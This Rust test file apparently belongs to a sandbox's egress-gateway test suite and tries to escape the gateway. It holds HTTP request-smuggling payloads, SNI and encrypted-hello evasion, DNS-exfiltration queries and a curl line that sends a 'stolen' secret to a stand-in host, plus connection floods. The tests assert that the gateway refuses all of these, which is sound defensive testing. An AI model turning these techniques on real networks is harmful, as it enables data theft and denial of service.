//! Ways around the gateway of N1. They need the servers and names of [`world`](crate::world), and a profile that allows what
//! [`world::ALLOWED`](crate::world::ALLOWED) lists.

use std::time::{Duration, Instant};

use tierbox_core::{Decision, ExecRequest, KillReason, Network, Verdict as Decided};

use super::{Canary, attacks};
use crate::attack::{Finding, findings, install, nothing_leaked};
use crate::case::{Verdict, ensure, skip};
use crate::subject::Subject;
use crate::world;

attacks! { "egress":
    e45_other_names [Isolation, Files] "Another server name, Host, URI, suffix or port than the allowed ones is refused, with the proxy and without.";
    e45_what_hides_the_name [Isolation, Files] "TLS without a name or with an encrypted hello, and bytes that are not TLS, are refused.";
    e45_second_names [Isolation, Files] "A second client hello, which a server of TLS 1.3 may ask for, names the same server as the first.";
    e45_no_http [Isolation, Files] "What two readers of HTTP could read differently is refused, and on record though no request came of it.";
    e46_addresses [Isolation, Files] "A name that leads to a private, local or metadata address is not dialled, though a server is there.";
    e47_names_as_a_channel [Isolation, Files] "A query for a name that is not allowed leaves nothing outside, and no record but the gateway's address is told.";
    e48_without_variables [Isolation, Files] "Without proxy variables an allowed name works, and nothing else does.";
    e51_slow_names [Isolation, Files] "Names that are never resolved keep another sandbox from nothing, and take a few threads of the host's at most.";
    e51_flood [Isolation, Files] "Half-open connections of one sandbox leave another its network.";
}

/// The gateway's address inside, if this is an environment with N1 in a world with servers.
async fn gateway(s: &Subject) -> Verdict<String> {
    if s.environment.report().tier.network() != Network::N1 {
        return skip("the environment has no gateway");
    }
    ensure!(s.factory.heard().is_some(), "there are no servers behind the gateway, so nothing was tried");
    let proxy = s.text("printf %s \"$http_proxy\"").await?;
    let address = proxy.strip_prefix("http://").and_then(|rest| rest.strip_suffix(":3128"));
    ensure!(address.is_some(), "the gateway is no proxy for programs inside: {proxy:?}");
    Ok(address.unwrap_or_default().to_owned())
}

async fn tried(s: &Subject, args: &[&str]) -> Verdict<Vec<Finding>> {
    findings(s, |request| request, args).await
}

/// What is allowed works: otherwise a refusal proves nothing.
fn works(found: &[Finding]) -> Verdict {
    let silent: Vec<&str> = found.iter().filter(|one| !one.leaked).map(|one| one.tried.as_str()).collect();
    ensure!(silent.is_empty(), "these must work, and do not: {silent:?}");
    Ok(())
}

async fn e45_other_names(s: Subject, _: Canary) -> Verdict {
    let at = gateway(&s).await?;
    let (http, proxy, tls) = (format!("{at}:80"), format!("{at}:3128"), format!("{at}:443"));
    let end = "Connection: close||";
    let request = |uri: &str, host: &str| format!("GET {uri} HTTP/1.1|Host: {host}|{end}");
    let good = [request("/x", "index.test"), request("/x", "INDEX.test:80")];
    works(&tried(&s, &["http", &http, &good[0], &good[1]]).await?)?;
    works(&tried(&s, &["http", &proxy, &request("http://index.test/x", "index.test")]).await?)?;
    let bad = [
        request("/x", "other.test"),
        request("/x", "index.test.other.test"),
        request("/x", "xindex.test"),
        request("/x", "files.test"),
        request("/x", "index.test:8081"),
        request("/x", world::SERVER),
        request("http://other.test/x", "index.test"),
        request("http://index.test/x", "other.test"),
        format!("GET /x HTTP/1.1|Host: index.test|Host: other.test|{end}"),
        // The second request of a connection is judged as the first one is.
        format!("GET /x HTTP/1.1|Host: index.test||{}", request("/x", "other.test")),
    ];
    for target in [&http, &proxy] {
        let args: Vec<&str> = ["http", target].into_iter().chain(bad.iter().map(String::as_str)).collect();
        nothing_leaked(&tried(&s, &args).await?)?;
    }
    works(&tried(&s, &["tls", &tls, "direct", "index.test", "Index.TEST"]).await?)?;
    works(&tried(&s, &["tls", &proxy, "index.test:443", "index.test"]).await?)?;
    nothing_leaked(&tried(&s, &["tls", &tls, "direct", "other.test", "files.test", "index.test.other.test"]).await?)?;
    nothing_leaked(&tried(&s, &["tls", &proxy, "index.test:443", "other.test", "a.files.test"]).await?)?;
    for via in ["other.test:443", "index.test:22", "index.test:8443", "203.0.113.10:443", "[::ffff:203.0.113.10]:443"] {
        nothing_leaked(&tried(&s, &["tls", &proxy, via, "index.test"]).await?)?;
    }
    refused_is_written(&s, "other.test").await
}

async fn refused_is_written(s: &Subject, name: &str) -> Verdict {
    refusal_is_written(s, &format!("a refusal of {name}"), |one| one.name == name).await?;
    refused_is_not_allowed(s, name).await
}

/// Waits for a record: it is written as its connection ends, a moment after the answer.
async fn refusal_is_written(s: &Subject, what: &str, is_it: impl Fn(&Decision) -> bool + Send + Sync) -> Verdict {
    s.until(s.patience, &format!("{what} is on record"), || is_refused(s, &is_it)).await
}

/// Whether such a refusal is on record.
async fn is_refused(s: &Subject, is_it: impl Fn(&Decision) -> bool) -> Verdict<bool> {
    let decisions = s.environment.decisions().await?;
    Ok(decisions.iter().any(|one| one.verdict == Decided::Refused && is_it(one)))
}

async fn e45_what_hides_the_name(s: Subject, _: Canary) -> Verdict {
    let at = gateway(&s).await?;
    let (tls, proxy) = (format!("{at}:443"), format!("{at}:3128"));
    nothing_leaked(&tried(&s, &["tls", &tls, "direct", "", "index.test,ech", world::SERVER]).await?)?;
    nothing_leaked(&tried(&s, &["tls", &proxy, "index.test:443", "", "index.test,ech"]).await?)?;
    // A request of plain HTTP, and another protocol, in a tunnel and on the port for TLS.
    let request = "GET /x HTTP/1.1|Host: index.test||";
    let tunnelled = format!("CONNECT index.test:443 HTTP/1.1|Host: index.test:443||{request}");
    tried(&s, &["http", &proxy, &tunnelled]).await?;
    refusal_is_written(&s, "what is not TLS", |one| one.rule.contains("not TLS")).await?;
    nothing_leaked(&tried(&s, &["http", &tls, "SSH-2.0-x|", "\u{1}\u{2}|"]).await?)
}

async fn e45_second_names(s: Subject, _: Canary) -> Verdict {
    let at = gateway(&s).await?;
    let (tls, proxy) = (format!("{at}:443"), format!("{at}:3128"));
    for to in [["tls", &tls, "direct"], ["tls", &proxy, "index.test:443"]] {
        let args = |hellos: &[&'static str]| [&to[..], hellos].concat();
        works(&tried(&s, &args(&["index.test>index.test", "index.test>Index.TEST"])).await?)?;
        let bad = ["index.test>other.test", "index.test>a.files.test", "index.test>", "index.test>>other.test"];
        nothing_leaked(&tried(&s, &args(&bad)).await?)?;
    }
    refusal_is_written(&s, "the second hello", |one| one.rule.contains("and the second other.test")).await
}

async fn e45_no_http(s: Subject, _: Canary) -> Verdict {
    let at = gateway(&s).await?;
    let (http, proxy) = (format!("{at}:80"), format!("{at}:3128"));
    let body = "|0||GET /x HTTP/1.1|Host: other.test||";
    let bad = [
        "GET /x HTTP/1.1|Host : index.test||".to_owned(),
        "GET /x HTTP/1.1|Host: index.test| folded: x||".to_owned(),
        format!("POST /x HTTP/1.1|Host: index.test|Content-Length: 5|Content-Length: 6|{body}"),
        format!("POST /x HTTP/1.1|Host: index.test|Content-Length: +5|{body}"),
        format!("POST /x HTTP/1.1|Host: index.test|Transfer-Encoding: xchunked|{body}"),
        "GET /x HTTP/9.9|Host: index.test||".to_owned(),
        "GET /x y HTTP/1.1|Host: index.test||".to_owned(),
    ];
    for target in [&http, &proxy] {
        for request in &bad {
            let before = unread(&s).await?;
            nothing_leaked(&tried(&s, &["http", target, request]).await?)?;
            // The record is written as the connection ends, a moment after its answer.
            let deadline = Instant::now() + s.patience;
            while unread(&s).await? == before {
                ensure!(Instant::now() < deadline, "{request:?} to {target} is not on record");
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        }
    }
    refused_is_not_allowed(&s, "other.test").await
}

/// Refused requests on record.
async fn unread(s: &Subject) -> Verdict<usize> {
    Ok(s.environment.decisions().await?.iter().filter(|one| one.verdict == Decided::Refused).count())
}

async fn refused_is_not_allowed(s: &Subject, name: &str) -> Verdict {
    let decisions = s.environment.decisions().await?;
    ensure!(decisions.iter().all(|one| one.verdict != Decided::Allowed || one.name != name), "{name} was allowed");
    Ok(())
}

async fn e46_addresses(s: Subject, _: Canary) -> Verdict {
    let at = gateway(&s).await?;
    let http = format!("{at}:80");
    for name in world::LEADS_ASTRAY {
        let request = format!("GET /x HTTP/1.1|Host: {name}|Connection: close||");
        // A resolver outside that was late has the name told as one that nothing is known of: asked again, it is refused.
        let refused = || async {
            nothing_leaked(&tried(&s, &["http", &http, &request]).await?)?;
            is_refused(&s, |one| one.name == *name).await
        };
        s.until(s.patience, &format!("a refusal of {name} is on record"), refused).await?;
        refused_is_not_allowed(&s, name).await?;
    }
    Ok(())
}

async fn e47_names_as_a_channel(s: Subject, _: Canary) -> Verdict {
    let at = gateway(&s).await?;
    let server = format!("{at}:53");
    works(&tried(&s, &["dns", &server, "1:index.test", "1:x.files.test"]).await?)?;
    // What may be asked for is heard of outside: otherwise it would prove nothing that the rest is not.
    let seen = format!("seen-{:x}", crate::subject::number());
    tried(&s, &["http", &format!("{at}:80"), &format!("GET /x HTTP/1.1|Host: {seen}.files.test|Connection: close||")]).await?;
    let is_heard = || async { Ok(s.factory.heard().is_some_and(|heard| heard.contains(&seen))) };
    s.until(s.patience, "the resolver outside hears of an allowed name", is_heard).await?;
    let secret = format!("stolen-{:x}", crate::subject::number());
    let asked: Vec<String> = [1, 28, 16, 15, 65, 64, 255, 12]
        .into_iter()
        .flat_map(|kind| [format!("{kind}:{secret}.other.test"), format!("{kind}:{secret}.index.test")])
        .chain([28, 16, 65, 64].map(|kind| format!("{kind}:index.test")))
        .collect();
    let args: Vec<&str> = ["dns", &server].into_iter().chain(asked.iter().map(String::as_str)).collect();
    nothing_leaked(&tried(&s, &args).await?)?;
    // Through the programs of the system too, and by names that the proxy is asked for.
    s.run(ExecRequest::shell(format!(
        "getent hosts {secret}.other.test; curl -s -m 3 http://{secret}.other.test/; \
         curl -s -m 3 --noproxy '*' http://{secret}.other.test/; :"
    )))
    .await?;
    let heard = s.factory.heard().unwrap_or_default();
    ensure!(!heard.contains(&secret), "the resolver outside heard of {secret}");
    Ok(())
}

async fn e48_without_variables(s: Subject, _: Canary) -> Verdict {
    gateway(&s).await?;
    if s.run(ExecRequest::shell("command -v curl")).await?.success() {
        return curl_without_variables(&s).await;
    }
    // The attack program knows of no proxy, and asks for names as programs do.
    let request = |host: &str| format!("GET /x HTTP/1.1|Host: {host}|Connection: close||");
    works(&tried(&s, &["http", "index.test:80", &request("index.test")]).await?)?;
    for (target, host) in [("other.test:80", "other.test"), ("203.0.113.10:80", "index.test"), ("index.test:8081", "index.test")]
    {
        nothing_leaked(&tried(&s, &["http", target, &request(host)]).await?)?;
    }
    Ok(())
}

async fn curl_without_variables(s: &Subject) -> Verdict {
    let curl = "unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY; curl() { command curl -skf -m 10 \"$@\"; };";
    let good = s.run(ExecRequest::shell(format!("{curl} curl http://index.test/x"))).await?;
    ensure!(good.success() && !good.stdout.text().is_empty(), "the allowed name does not work: {good:?}");
    // At once: where a network says nothing to what it drops, each waits to the end of its time.
    let bad = [
        "http://other.test/x",
        "http://203.0.113.10/x",
        "http://index.test:8081/x",
        "https://other.test/x",
        "--resolve index.test:80:203.0.113.10 http://index.test/x",
    ];
    let each = bad.map(|way| format!("{{ ! curl {way} >/dev/null || echo '{way}'; }} &")).join(" ");
    let tried = s.run(ExecRequest::shell(format!("{curl} {each} wait; echo tried"))).await?;
    ensure!(tried.stdout.text() == "tried\n", "these were reached: {tried:?}");
    Ok(())
}

/// How many lookups of the gateways in this process run.
fn lookups() -> usize {
    let tasks = std::fs::read_dir("/proc/self/task").into_iter().flatten().flatten();
    tasks
        .filter(|task| std::fs::read_to_string(task.path().join("comm")).is_ok_and(|name| name.trim() == "tierbox-resolve"))
        .count()
}

async fn e51_slow_names(s: Subject, _: Canary) -> Verdict {
    let at = gateway(&s).await?;
    let other = s.another(&|_| ()).await?;
    let there = gateway(&other).await?;
    let program = install(&s).await?;
    let asks = |number: u32| format!("{program} http {at}:80 'GET / HTTP/1.1|Host: n{number}.slow.files.test||' & ");
    let script: String = (0..60).map(asks).chain(["wait".to_owned()]).collect();
    let mut flood = s.spawn(s.shell(script)).await?;
    let before = lookups();
    s.until(s.scaled(Duration::from_secs(30)), "names are being looked up", || async { Ok(lookups() >= 4) }).await?;
    let start = Instant::now();
    let request = "GET /x HTTP/1.1|Host: index.test|Connection: close||";
    for _ in 0..20 {
        works(&tried(&other, &["http", &format!("{there}:80"), request]).await?)?;
        ensure!(lookups() <= before + 8, "{} lookups at once", lookups());
    }
    let took = start.elapsed();
    flood.kill(KillReason::Cancelled);
    s.outcome(&mut flood).await?;
    ensure!(took < s.scaled(Duration::from_secs(10)), "the other sandbox waited {took:?} for twenty pages");
    other.stop().await
}

async fn e51_flood(s: Subject, _: Canary) -> Verdict {
    let at = gateway(&s).await?;
    let other = s.another(&|_| ()).await?;
    let there = gateway(&other).await?;
    let program = install(&s).await?;
    let mut floods = Vec::new();
    for target in [format!("{at}:80"), format!("{at}:3128")] {
        let request = ExecRequest::new([program.as_str(), "half-open", &target, "400"]).cwd(s.dir.as_str());
        floods.push(s.spawn(request).await?);
    }
    // Both are in full swing when the first refusal for want of places is written.
    s.until(s.scaled(Duration::from_secs(30)), "the flood fills the sandbox's share", || async {
        let decisions = s.environment.decisions().await?;
        Ok(decisions.iter().any(|one| one.rule.contains("too many connections")))
    })
    .await?;
    let start = Instant::now();
    let request = "GET /x HTTP/1.1|Host: index.test|Connection: close||";
    let found = tried(&other, &["http", &format!("{there}:80"), request]).await?;
    let took = start.elapsed();
    for flood in &mut floods {
        flood.kill(KillReason::Cancelled);
        s.outcome(flood).await?;
    }
    works(&found)?;
    ensure!(took < s.scaled(Duration::from_secs(5)), "the other sandbox waited {took:?}");
    other.stop().await
}
